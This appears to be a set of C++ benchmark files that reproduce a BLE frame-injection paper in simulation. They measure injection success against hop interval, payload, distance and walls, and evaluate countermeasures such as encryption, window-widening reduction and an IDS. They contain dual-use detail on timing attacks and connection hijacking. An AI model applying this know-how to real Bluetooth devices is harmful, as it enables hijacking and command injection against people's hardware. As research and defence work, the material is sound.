// Ablation: Channel Selection Algorithm #1 vs #2 (paper §III-B.3: "the
// proposed approach can be easily adapted to the second algorithm").
//
// Both algorithms are deterministic functions of parameters the attacker
// sniffs (CSA#1: hopIncrement from CONNECT_REQ; CSA#2: the access address
// itself), so the injection cost should be indistinguishable.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Ablation: CSA#1 vs CSA#2 (paper §III-B.3) ===\n");
    std::printf("hop 36, 2 m triangle, 25 runs each\n\n");
    print_stats_header("algorithm");

    for (bool csa2 : {false, true}) {
        ExperimentConfig config;
        config.world.hop_interval = 36;
        config.world.use_csa2 = csa2;
        config.base_seed = 8200 + (csa2 ? 1 : 0);
        const Stats stats = summarize(run_series(config));
        print_stats_row(csa2 ? "CSA#2 (BLE 5)" : "CSA#1", stats);
    }
    std::printf(
        "\nExpected shape: statistically identical columns — upgrading to the\n"
        "BLE 5 channel selection algorithm is NOT a mitigation (the PRN is\n"
        "seeded by the access address, which every data frame leaks).\n");
    return 0;
}
