// Ablation: counter-measure 2 of paper §VIII — Link-Layer encryption.
// "If all frames are correctly ciphered, an attacker will not be able to
// easily sniff the connection parameters and forge a valid frame. In this
// specific case, the vulnerability is still present, even if its impact is
// limited to Denial of Service attacks."
//
// We run the same injection against a plaintext link and an encrypted link:
// on the encrypted link, the attacker's plaintext frame still wins the race
// (the race condition is below the crypto), but the MIC check fails and the
// slave tears the connection down — DoS instead of command injection.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Ablation: LL encryption (paper §VIII, solution 2) ===\n");
    std::printf("hop 36, 2 m triangle, 25 runs/config, injected ATT write\n\n");
    std::printf("%-12s %14s %16s %14s\n", "link", "cmd injected", "victims dropped",
                "mean attempts");

    for (bool encrypted : {false, true}) {
        ExperimentConfig config;
        config.world.hop_interval = 36;
        config.world.encrypt_link = encrypted;
        config.max_attempts = 40;
        config.base_seed = 7600 + (encrypted ? 1 : 0);
        auto results = run_series(config);
        const Stats stats = summarize(results);
        int victims_down = 0;
        for (const auto& r : results) victims_down += r.victim_disconnected ? 1 : 0;
        std::printf("%-12s %8d/%-5d %10d/%-5d %14.2f\n",
                    encrypted ? "encrypted" : "plaintext", stats.successes, stats.n,
                    victims_down, stats.n, stats.mean);
    }
    std::printf(
        "\nExpected shape: plaintext -> the command executes and the connection\n"
        "survives (stealthy injection). Encrypted -> the injected frame cannot\n"
        "carry a valid MIC; no command ever executes, and races that beat the\n"
        "master kill the connection (availability impact only, as §IV argues).\n");
    return 0;
}
