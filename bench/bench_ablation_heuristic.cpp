// Ablation: accuracy of the paper's Eq. 7 success heuristic, scored against
// simulator ground truth (the victim lightbulb's command counter — the same
// validation trick the paper used with "a frame with a visible effect on the
// device").
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Ablation: Eq. 7 heuristic accuracy vs ground truth ===\n");
    std::printf("observable Write Command injections; FP = heuristic says success\n");
    std::printf("but the command never executed; FN = executed but heuristic said no\n\n");
    std::printf("%-16s %8s %8s %8s\n", "configuration", "runs", "FP", "FN");

    struct Case {
        const char* label;
        std::uint16_t hop;
        double attacker_x;
    };
    const Case cases[] = {
        {"triangle/hop36", 36, 0.0},
        {"triangle/hop75", 75, 0.0},
        {"far (8 m)", 36, -8.0},
    };
    for (const auto& c : cases) {
        ExperimentConfig config;
        config.world.hop_interval = c.hop;
        if (c.attacker_x != 0.0) config.world.attacker_pos = {c.attacker_x, 0.0};
        config.runs = 50;
        config.base_seed = 7900 + c.hop;
        auto results = run_series(config);
        int fp = 0, fn = 0, n = 0;
        for (const auto& r : results) {
            if (!r.established || !r.sniffed) continue;
            ++n;
            fp += r.heuristic_false_positives;
            fn += r.heuristic_false_negatives;
        }
        std::printf("%-16s %8d %8d %8d\n", c.label, n, fp, fn);
    }
    std::printf(
        "\nExpected shape: near-zero false positives and false negatives — the\n"
        "paper validated the heuristic by injecting frames with observable\n"
        "effects and relies on it for every multi-frame scenario.\n");
    return 0;
}
