// Ablation: the §VIII IDS against all four scenarios — detection rate, time
// to first alert, and the false-positive baseline on benign traffic.
#include <cstdio>
#include <memory>
#include <optional>

#include "core/scenarios.hpp"
#include "experiment.hpp"
#include "gatt/builder.hpp"
#include "ids/detector.hpp"

namespace {

using namespace injectable;
using namespace injectable::bench;
using namespace ble;
using ble::ids::Alert;
using ble::ids::InjectionDetector;

struct IdsRun {
    explicit IdsRun(std::uint64_t seed)
        : rng(seed), medium(scheduler, rng.fork(), sim::PathLossModel{}) {
        host::PeripheralConfig p_cfg;
        p_cfg.name = "bulb";
        peripheral = std::make_unique<host::Peripheral>(scheduler, medium, rng.fork(), p_cfg);
        bulb.install(peripheral->att_server());
        host::CentralConfig c_cfg;
        c_cfg.name = "phone";
        c_cfg.radio.position = {2.0, 0.0};
        c_cfg.radio.clock.sca_ppm = 30.0;
        c_cfg.declared_sca_ppm = 50.0;
        central = std::make_unique<host::Central>(scheduler, medium, rng.fork(), c_cfg);
        sim::RadioDeviceConfig a_cfg;
        a_cfg.name = "attacker";
        a_cfg.position = {1.0, 1.732};
        attacker = std::make_unique<AttackerRadio>(scheduler, medium, rng.fork(), a_cfg);
        sim::RadioDeviceConfig probe_cfg;
        probe_cfg.name = "ids-probe";
        probe_cfg.position = {0.5, -1.0};
        probe = std::make_unique<AttackerRadio>(scheduler, medium, rng.fork(), probe_cfg);
    }

    bool establish() {
        AdvSniffer atk_sniffer(*attacker);
        AdvSniffer ids_sniffer(*probe);
        std::optional<SniffedConnection> atk_cap, ids_cap;
        atk_sniffer.on_connection = [&](const SniffedConnection& c,
                                        const link::ConnectReqPdu&) { atk_cap = c; };
        ids_sniffer.on_connection = [&](const SniffedConnection& c,
                                        const link::ConnectReqPdu&) { ids_cap = c; };
        atk_sniffer.start();
        ids_sniffer.start();
        peripheral->start();
        link::ConnectionParams params;
        params.hop_interval = 36;
        params.timeout = 300;
        central->connect(peripheral->address(), params);
        const TimePoint deadline = scheduler.now() + 5_s;
        while (scheduler.now() < deadline &&
               !(atk_cap && ids_cap && central->connected() && peripheral->connected())) {
            if (!scheduler.run_one()) break;
        }
        atk_sniffer.stop();
        ids_sniffer.stop();
        if (!atk_cap || !ids_cap || !central->connected()) return false;
        detector = std::make_unique<InjectionDetector>(*probe, *ids_cap);
        detector->on_alert = [this](const Alert& alert) {
            if (!first_alert) first_alert = alert;
        };
        detector->start();
        session = std::make_unique<AttackSession>(*attacker, *atk_cap);
        session->start();
        attack_t0 = scheduler.now();
        scheduler.run_until(scheduler.now() + 400_ms);
        return true;
    }

    template <typename Pred>
    bool run_until(Duration budget, Pred pred) {
        const TimePoint deadline = scheduler.now() + budget;
        while (scheduler.now() < deadline && !pred()) {
            if (!scheduler.run_one()) break;
        }
        return pred();
    }

    Rng rng;
    sim::Scheduler scheduler;
    sim::RadioMedium medium;
    std::unique_ptr<host::Peripheral> peripheral;
    std::unique_ptr<host::Central> central;
    std::unique_ptr<AttackerRadio> attacker;
    std::unique_ptr<AttackerRadio> probe;
    gatt::LightbulbProfile bulb;
    std::unique_ptr<AttackSession> session;
    std::unique_ptr<InjectionDetector> detector;
    std::optional<Alert> first_alert;
    TimePoint attack_t0 = 0;
};

struct DetectRow {
    int runs = 0;
    int attack_ok = 0;
    int detected = 0;
    double latency_ms_sum = 0;
};

void print_detect_row(const char* name, const DetectRow& row) {
    std::printf("%-28s %7d %11d %10d %12.0f\n", name, row.runs, row.attack_ok,
                row.detected,
                row.detected ? row.latency_ms_sum / row.detected : 0.0);
}

}  // namespace

int main() {
    std::printf("=== Ablation: IDS detection (paper §VIII, solution 3), 15 runs ===\n\n");
    std::printf("%-28s %7s %11s %10s %12s\n", "workload", "runs", "attack ok",
                "detected", "latency(ms)");

    constexpr int kRuns = 15;

    // Benign baseline: no attack, busy GATT traffic.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9800 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            run.session->stop();
            ++row.runs;
            for (int k = 0; k < 10; ++k) {
                run.central->gatt().write_command(
                    run.bulb.control_handle(),
                    gatt::LightbulbProfile::cmd_set_brightness(
                        static_cast<std::uint8_t>(k * 10)));
                run.scheduler.run_until(run.scheduler.now() + 500_ms);
            }
            if (run.first_alert) ++row.detected;  // false positive
        }
        print_detect_row("benign (FP baseline)", row);
    }

    // Scenario A.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9810 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ScenarioA scenario(*run.session);
            std::optional<ScenarioA::Result> result;
            scenario.inject_write(run.bulb.control_handle(),
                                  gatt::LightbulbProfile::cmd_set_power(false),
                                  [&](const ScenarioA::Result& r) { result = r; });
            run.run_until(60_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 2_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario A (ATT inject)", row);
    }

    // Scenario B.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9830 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ble::att::AttServer fake;
            gatt::GattBuilder builder(fake);
            gatt::add_gap_service(builder, "Hacked");
            ScenarioB scenario(*run.session, fake);
            std::optional<ScenarioB::Result> result;
            scenario.execute([&](const ScenarioB::Result& r) { result = r; });
            run.run_until(60_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 2_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario B (slave hijack)", row);
    }

    // Scenario C.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9850 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ScenarioC scenario(*run.session);
            std::optional<ScenarioC::Result> result;
            scenario.execute([&](const ScenarioC::Result& r) { result = r; });
            run.run_until(120_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 3_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario C (master hijack)", row);
    }

    std::printf(
        "\nExpected shape: zero alerts on benign traffic. Update-based hijacks\n"
        "(C/D) are always caught — their double-anchor transmit window is a\n"
        "gross timing signature. Terminate hijacks are caught when the probe\n"
        "decodes the injected PDU or its timing shift. Single-frame ATT\n"
        "injections (A) are the stealthiest: the anchor shifts by only\n"
        "(widening - attacker latency), sometimes inside the legitimate drift\n"
        "envelope — the residual the paper's RF-fingerprinting IDS [13] exists\n"
        "to cover.\n");
    return 0;
}
