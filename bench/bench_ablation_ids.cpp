// Ablation: the §VIII IDS against all four scenarios — detection rate, time
// to first alert, and the false-positive baseline on benign traffic.
#include <cstdio>
#include <memory>
#include <optional>

#include "core/scenarios.hpp"
#include "gatt/builder.hpp"
#include "ids/detector.hpp"
#include "world/world.hpp"

namespace {

using namespace injectable;
using namespace injectable::world;
using namespace ble;
using ble::ids::Alert;
using ble::ids::InjectionDetector;

WorldSpec ids_spec(std::uint64_t seed) {
    WorldSpec spec;  // paper baseline: fading office, declared 50 / real 30 ppm
    spec.seed = seed;
    spec.supervision_timeout = 300;
    spec.master_traffic_every_events = 0;
    return spec;
}

struct IdsRun : World {
    explicit IdsRun(std::uint64_t seed)
        : World(ids_spec(seed)), probe(make_attacker("ids-probe", {0.5, -1.0})) {}

    bool establish() {
        // The IDS probe must capture the same CONNECT_REQ the attacker does.
        AdvSniffer ids_sniffer(*probe);
        std::optional<SniffedConnection> ids_cap;
        ids_sniffer.on_connection = [&](const SniffedConnection& c,
                                        const link::ConnectReqPdu&) { ids_cap = c; };
        ids_sniffer.start();
        const auto atk_cap =
            establish_and_sniff(5_s, [&] { return ids_cap.has_value(); });
        ids_sniffer.stop();
        if (!atk_cap || !ids_cap) return false;
        detector = std::make_unique<InjectionDetector>(*probe, *ids_cap);
        detector->on_alert = [this](const Alert& alert) {
            if (!first_alert) first_alert = alert;
        };
        detector->start();
        attack_t0 = scheduler.now();
        start_session(400_ms);
        return true;
    }

    std::unique_ptr<AttackerRadio> probe;
    std::unique_ptr<InjectionDetector> detector;
    std::optional<Alert> first_alert;
    TimePoint attack_t0 = 0;
};

struct DetectRow {
    int runs = 0;
    int attack_ok = 0;
    int detected = 0;
    double latency_ms_sum = 0;
};

void print_detect_row(const char* name, const DetectRow& row) {
    std::printf("%-28s %7d %11d %10d %12.0f\n", name, row.runs, row.attack_ok,
                row.detected,
                row.detected ? row.latency_ms_sum / row.detected : 0.0);
}

}  // namespace

int main() {
    std::printf("=== Ablation: IDS detection (paper §VIII, solution 3), 15 runs ===\n\n");
    std::printf("%-28s %7s %11s %10s %12s\n", "workload", "runs", "attack ok",
                "detected", "latency(ms)");

    constexpr int kRuns = 15;

    // Benign baseline: no attack, busy GATT traffic.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9800 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            run.session->stop();
            ++row.runs;
            for (int k = 0; k < 10; ++k) {
                run.central->gatt().write_command(
                    run.bulb.control_handle(),
                    gatt::LightbulbProfile::cmd_set_brightness(
                        static_cast<std::uint8_t>(k * 10)));
                run.scheduler.run_until(run.scheduler.now() + 500_ms);
            }
            if (run.first_alert) ++row.detected;  // false positive
        }
        print_detect_row("benign (FP baseline)", row);
    }

    // Scenario A.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9810 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ScenarioA scenario(*run.session);
            std::optional<ScenarioA::Result> result;
            scenario.inject_write(run.bulb.control_handle(),
                                  gatt::LightbulbProfile::cmd_set_power(false),
                                  [&](const ScenarioA::Result& r) { result = r; });
            run.run_until(60_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 2_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario A (ATT inject)", row);
    }

    // Scenario B.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9830 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ble::att::AttServer fake;
            gatt::GattBuilder builder(fake);
            gatt::add_gap_service(builder, "Hacked");
            ScenarioB scenario(*run.session, fake);
            std::optional<ScenarioB::Result> result;
            scenario.execute([&](const ScenarioB::Result& r) { result = r; });
            run.run_until(60_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 2_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario B (slave hijack)", row);
    }

    // Scenario C.
    {
        DetectRow row;
        for (int i = 0; i < kRuns; ++i) {
            IdsRun run(9850 + static_cast<std::uint64_t>(i));
            if (!run.establish()) continue;
            ++row.runs;
            ScenarioC scenario(*run.session);
            std::optional<ScenarioC::Result> result;
            scenario.execute([&](const ScenarioC::Result& r) { result = r; });
            run.run_until(120_s, [&] { return result.has_value(); });
            run.scheduler.run_until(run.scheduler.now() + 3_s);
            if (result && result->success) ++row.attack_ok;
            if (run.first_alert) {
                ++row.detected;
                row.latency_ms_sum += to_ms(run.first_alert->time - run.attack_t0);
            }
        }
        print_detect_row("scenario C (master hijack)", row);
    }

    std::printf(
        "\nExpected shape: zero alerts on benign traffic. Update-based hijacks\n"
        "(C/D) are always caught — their double-anchor transmit window is a\n"
        "gross timing signature. Terminate hijacks are caught when the probe\n"
        "decodes the injected PDU or its timing shift. Single-frame ATT\n"
        "injections (A) are the stealthiest: the anchor shifts by only\n"
        "(widening - attacker latency), sometimes inside the legitimate drift\n"
        "envelope — the residual the paper's RF-fingerprinting IDS [13] exists\n"
        "to cover.\n");
    return 0;
}
