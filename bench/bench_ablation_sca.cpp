// Ablation: the attacker's assumed slave SCA (paper §V-C: "The Slave's Sleep
// Clock Accuracy can be estimated at 20 ppm, which is the worst case from the
// attacker's perspective").
//
// Assuming less than the slave's real widening wastes none of the window but
// arrives later within it; assuming more overshoots the window start —
// transmitting before the slave even listens loses the frame entirely. This
// sweep quantifies how forgiving that estimate is.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Ablation: attacker's assumed slave SCA (paper §V-C) ===\n");
    std::printf("hop 36, victim slave really 20 ppm, 25 runs/assumption\n\n");
    print_stats_header("assumed SCA (ppm)");

    for (double assumed : {0.0, 10.0, 20.0, 50.0, 150.0, 400.0}) {
        ExperimentConfig config;
        config.world.hop_interval = 36;
        config.world.attack.assumed_slave_sca_ppm = assumed;
        config.base_seed = 7800 + static_cast<std::uint64_t>(assumed);
        const Stats stats = summarize(run_series(config));
        char label[32];
        std::snprintf(label, sizeof(label), "%.0f ppm", assumed);
        print_stats_row(label, stats);
    }
    std::printf(
        "\nShape: the estimate is forgiving. Assuming a bit more than the real\n"
        "20 ppm shifts the injection earlier inside the slave's (real) window —\n"
        "a slightly longer head start, slightly cheaper injections — until the\n"
        "assumption overshoots the actual window start and frames begin to land\n"
        "before the slave listens (the 400 ppm column turns back up). The\n"
        "paper's worst-case 20 ppm guess is safe: it can never overshoot.\n");
    return 0;
}
