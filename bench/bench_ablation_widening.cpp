// Ablation: counter-measure 1 of paper §VIII — "by reducing the duration of
// the widening windows the possibility for an attacker to inject a frame at
// the right time will be mechanically reduced ... the rate of successful
// injection will decrease due to the collision with a legitimate frame."
//
// We scale the *victim slave's* window widening below the spec value and
// measure both the injection cost and the collateral damage (the legitimate
// link's own stability), which is the trade-off the paper warns about.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Ablation: window-widening reduction (paper §VIII, solution 1) ===\n");
    std::printf("hop 36, 2 m triangle, 25 runs/scale; attacker still assumes spec widening\n\n");
    std::printf("%-10s %9s %7s %8s %7s %12s\n", "scale", "success", "median", "mean",
                "max", "victims died");

    for (double scale : {1.0, 0.75, 0.5, 0.25, 0.1}) {
        ExperimentConfig config;
        config.world.hop_interval = 36;
        config.world.widening_scale = scale;
        config.base_seed = 7000 + static_cast<std::uint64_t>(scale * 100);
        auto results = run_series(config);
        const Stats stats = summarize(results);
        int victim_down = 0;
        for (const auto& r : results) victim_down += r.victim_disconnected ? 1 : 0;
        std::printf("%-10.2f %5d/%-3d %7.1f %8.2f %7.0f %8d/%d\n", scale,
                    stats.successes, stats.n, stats.median, stats.mean, stats.max,
                    victim_down, stats.n);
    }
    std::printf(
        "\nExpected shape: smaller windows drive the injection cost up steeply\n"
        "(the attacker, still assuming spec widening, transmits before the\n"
        "shrunken window opens). With the well-behaved crystals modelled here\n"
        "the legitimate link itself survives even 0.1x; a device drifting near\n"
        "its declared SCA would instead start losing sync — the paper's warning\n"
        "about \"side effects on the reliability and stability of the\n"
        "communications\".\n");
    return 0;
}
