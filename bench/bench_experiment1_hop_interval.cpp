// Experiment 1 (paper §VII-A, Fig. 9 left panel): number of injection
// attempts before success vs. the connection's Hop Interval.
//
// Setup per the paper: Peripheral, Central and attacker on a 2 m equilateral
// triangle; Hop Interval swept over {25, 50, 75, 100, 125, 150}; 25
// connections per value; injected frame 22 bytes over the air (176 µs at
// LE 1M) — too long to fit any of these widened windows, so every attempt
// races into a collision (the paper's deliberate worst case).
//
// Paper's reported shape: the attack succeeds for every tested connection;
// the median stays below ~4 attempts everywhere; the variance (spread) drops
// quickly between 25 and 100 and stabilises afterwards.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Experiment 1: Hop Interval sensitivity (paper Fig. 9, left) ===\n");
    std::printf("22-byte frame over the air, 2 m equilateral triangle, 25 runs/value\n\n");
    print_stats_header("hop interval");

    for (std::uint16_t hop : {25, 50, 75, 100, 125, 150}) {
        ExperimentConfig config;
        config.name = "exp1";
        config.world.master_sca_ppm = 250.0;   // declared by the Mirage-driven HCI dongle
        config.world.master_clock_ppm = 80.0;  // its actual crystal runs well inside that
        config.world.hop_interval = hop;
        config.ll_payload_size = 12;  // -> 22 bytes / 176 µs over the air
        config.base_seed = 1000 + hop;
        const auto results = run_series(config);
        const Stats stats = summarize(results);
        char label[32];
        std::snprintf(label, sizeof(label), "%u (%.2f ms)", hop, hop * 1.25);
        print_stats_row(label, stats);
    }
    std::printf(
        "\nExpected shape (paper): 100%% success; median < 4 everywhere; spread\n"
        "(max - min, Q3 - Q1) shrinks from 25 to 100 and stabilises afterwards.\n");
    return 0;
}
