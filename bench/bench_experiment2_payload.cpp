// Experiment 2 (paper §VII-B, Fig. 9 middle panel): attempts before success
// vs. the injected frame's payload size, at a fixed Hop Interval of 75.
//
// The paper used payload sizes {4, 9, 14, 16} — frames with observable
// effects on the target lightbulb. Shorter frames overlap the legitimate
// frame for less airtime, so fewer bytes risk corruption and the injection
// succeeds sooner.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Experiment 2: payload-size sensitivity (paper Fig. 9, middle) ===\n");
    std::printf("Hop Interval 75 (93.75 ms), 2 m triangle, 25 runs/value\n\n");
    print_stats_header("LL payload (bytes)");

    for (std::size_t payload : {std::size_t{4}, std::size_t{9}, std::size_t{14},
                                std::size_t{16}}) {
        ExperimentConfig config;
        config.name = "exp2";
        config.world.master_sca_ppm = 250.0;   // declared by the Mirage-driven HCI dongle
        config.world.master_clock_ppm = 80.0;  // its actual crystal runs well inside that
        config.world.hop_interval = 75;
        config.ll_payload_size = payload;
        config.base_seed = 2000 + payload;
        const auto results = run_series(config);
        const Stats stats = summarize(results);
        char label[40];
        std::snprintf(label, sizeof(label), "%zu (air %zu B, %zu us)", payload,
                      payload + 10, (payload + 10) * 8);
        print_stats_row(label, stats);
    }
    std::printf(
        "\nExpected shape (paper): higher reliability as the payload shrinks;\n"
        "median stays very low (< 3) for all sizes.\n");
    return 0;
}
