// Experiment 3 (paper §VII-C, Fig. 9 right panel): attempts before success
// vs. the attacker's distance from the Peripheral.
//
// Setup per the paper: lightbulb and smartphone 2 m apart, the phone using
// its default Hop Interval of 36 (45 ms); attacker tested at positions
// A(1 m), B(2 m), C(4 m), D(6 m), E(8 m), F(10 m) from the Peripheral
// (Fig. 8). The injected frame is the 22-byte "bulb off" Write Request.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Experiment 3: distance sensitivity (paper Fig. 9, right) ===\n");
    std::printf("Hop Interval 36 (45 ms), phone at 2 m, 25 runs/position\n\n");
    print_stats_header("attacker position");

    struct Position {
        const char* label;
        double distance_m;
    };
    const Position positions[] = {{"A (1 m)", 1.0},  {"B (2 m)", 2.0}, {"C (4 m)", 4.0},
                                  {"D (6 m)", 6.0},  {"E (8 m)", 8.0}, {"F (10 m)", 10.0}};

    for (const auto& pos : positions) {
        ExperimentConfig config;
        config.name = "exp3";
        config.world.hop_interval = 36;
        config.ll_payload_size = 12;  // 22-byte frame
        config.world.peripheral_pos = {0.0, 0.0};
        config.world.central_pos = {2.0, 0.0};
        config.world.attacker_pos = {-pos.distance_m, 0.0};  // opposite side of the bulb
        config.base_seed = 3000 + static_cast<std::uint64_t>(pos.distance_m * 10);
        const auto results = run_series(config);
        const Stats stats = summarize(results);
        print_stats_row(pos.label, stats);
    }
    std::printf(
        "\nExpected shape (paper): every connection is eventually injectable even\n"
        "at 10 m (while the master sits 2 m away); attempts and variance grow\n"
        "with distance.\n");
    return 0;
}
