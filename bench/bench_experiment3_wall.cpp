// Experiment 3b (paper §VII-C, Fig. 9 rightmost panel): attack effectiveness
// from behind a wall.
//
// Setup per the paper: lightbulb and phone 2 m apart in one room; attacker at
// {2, 4, 6, 8} m from the Peripheral on the other side of a wall.
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable::world;

    std::printf("=== Experiment 3b: through-the-wall injection (paper Fig. 9) ===\n");
    std::printf("Hop Interval 36, phone at 2 m, 6 dB wall, 25 runs/distance\n\n");
    print_stats_header("distance (wall)");

    for (double distance : {2.0, 4.0, 6.0, 8.0}) {
        ExperimentConfig config;
        config.name = "exp3b";
        config.world.hop_interval = 36;
        config.ll_payload_size = 12;
        config.world.peripheral_pos = {0.0, 0.0};
        config.world.central_pos = {2.0, 0.0};
        config.world.attacker_pos = {-distance, 0.0};
        // Wall between the attacker and the room with the victims.
        config.world.walls.push_back(ble::sim::Wall{{-1.0, -50.0}, {-1.0, 50.0}, 6.0});
        config.base_seed = 3500 + static_cast<std::uint64_t>(distance * 10);
        const auto results = run_series(config);
        const Stats stats = summarize(results);
        char label[32];
        std::snprintf(label, sizeof(label), "%.0f m + wall", distance);
        print_stats_row(label, stats);
    }
    std::printf(
        "\nExpected shape (paper): more attempts than the open-room experiment and\n"
        "variance growing with distance, but still a successful injection for\n"
        "every tested connection.\n");
    return 0;
}
