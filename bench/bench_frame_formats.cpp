// Tables I & II: the LE 1M frame format and the CONNECT_REQ payload layout,
// regenerated from the implementation (a real CONNECT_REQ is built, serialized
// and torn back apart, so the printed offsets are the code's, not prose).
#include <cstdio>

#include "common/hex.hpp"
#include "world/experiment.hpp"
#include "phy/frame.hpp"

int main() {
    using namespace ble;

    std::printf("=== Table I: frame format for LE 1M ===\n\n");
    const Bytes pdu{0x0A, 0x02, 0xAA, 0xBB};  // header + 2-byte payload
    const auto frame = phy::make_air_frame(0xAF9A9CD4, pdu, 0x555555);
    std::printf("| %-10s | %-16s | %-26s | %-8s |\n", "Preamble", "Access Address",
                "Protocol Data Unit (PDU)", "CRC");
    std::printf("| %-10s | %-16s | %-26s | %-8s |\n", "1 byte", "4 bytes", "variable",
                "3 bytes");
    std::printf("\nserialized example (AA..CRC): %s\n", to_hex(frame.bytes).c_str());
    std::printf("airtime at LE 1M: %ld us (8 us preamble + %zu bytes x 8 us)\n",
                static_cast<long>(to_us(frame.duration())), frame.bytes.size());

    std::printf("\n=== Table II: CONNECT_REQ PDU payload ===\n\n");
    link::ConnectReqPdu req;
    req.initiator = *link::DeviceAddress::from_string("11:22:33:44:55:66");
    req.advertiser = *link::DeviceAddress::from_string("aa:bb:cc:dd:ee:ff");
    req.params.access_address = 0xAF9A9CD4;
    req.params.crc_init = 0x17B0C3;
    req.params.win_size = 1;
    req.params.win_offset = 2;
    req.params.hop_interval = 36;
    req.params.latency = 0;
    req.params.timeout = 100;
    req.params.hop_increment = 9;
    req.params.master_sca = 5;
    const auto adv = req.to_adv_pdu();

    struct Field {
        const char* name;
        int size;
    };
    const Field fields[] = {{"Init. addr.", 6},   {"Adv. addr.", 6}, {"Access addr.", 4},
                            {"CRCInit", 3},       {"WinSize", 1},    {"WinOffset", 2},
                            {"Hop interval", 2},  {"Latency", 2},    {"Timeout", 2},
                            {"Channel Map", 5},   {"Hop+SCA", 1}};
    int offset = 0;
    std::printf("%-14s %-8s %-10s %s\n", "field", "offset", "size", "bytes");
    for (const auto& field : fields) {
        const Bytes slice(adv.payload.begin() + offset,
                          adv.payload.begin() + offset + field.size);
        std::printf("%-14s %-8d %-10d %s\n", field.name, offset, field.size,
                    to_hex(slice).c_str());
        offset += field.size;
    }
    std::printf("total payload: %zu bytes (Table II: 34)\n", adv.payload.size());
    std::printf("Hop Increment = 5 bits, SCA = 3 bits, packed in the last byte\n");
    return 0;
}
