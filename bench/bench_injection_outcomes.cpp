// Figure 5: the three possible outcomes of an injection attempt —
//  (a) injected frame lands entirely before the legitimate one,
//  (b) it collides with the legitimate frame (success iff the collision does
//      not corrupt it),
//  (c) the legitimate frame wins the race.
//
// We sweep the attacker's deliberate TX delay across the receive window and
// classify every attempt with the attacker's own Eq. 7 signals. As the delay
// grows the outcome mass moves a -> b -> c, mapping the paper's figure onto
// measured frequencies.
#include <atomic>
#include <cstdio>

#include "world/experiment.hpp"

int main() {
    using namespace injectable;
    using namespace injectable::world;
    using namespace ble;

    std::printf("=== Injection outcome anatomy (paper Fig. 5) ===\n");
    std::printf("hop 36, short 4-byte payload (14 B / 112 us over the air),\n");
    std::printf("TX delayed by D microseconds past the window start (w ~= 35 us)\n\n");
    std::printf("%8s %9s %10s %12s %12s %10s\n", "D (us)", "attempts", "(a)+(b) ok",
                "(b) corrupt", "(c) master", "no rsp");

    for (int delay_us : {0, 10, 20, 30, 40, 60, 90, 120}) {
        // run_series fans trials out on worker threads; the per-attempt hook
        // fires concurrently, so accumulate into atomics (the printed totals
        // are order-independent and stay deterministic).
        std::atomic<int> ok{0}, corrupt{0}, master_won{0}, silent{0}, total{0};
        ExperimentConfig config;
        config.world.hop_interval = 36;
        config.ll_payload_size = 4;
        config.runs = 40;
        config.max_attempts = 10;  // sample attempts, not time-to-success
        config.base_seed = 6000 + static_cast<std::uint64_t>(delay_us);
        config.world.attack.tx_latency_mean = microseconds(delay_us);
        config.world.attack.tx_latency_sd = 0;
        config.world.attack.hiccup_prob = 0.0;
        config.world.attack.turnaround_time = 0;
        config.on_attempt_hook = [&](const AttemptReport& report) {
            ++total;
            if (!report.verdict.response_seen) {
                ++silent;
            } else if (!report.verdict.timing_ok) {
                ++master_won;  // slave anchored on the legitimate frame
            } else if (!report.verdict.flow_ok) {
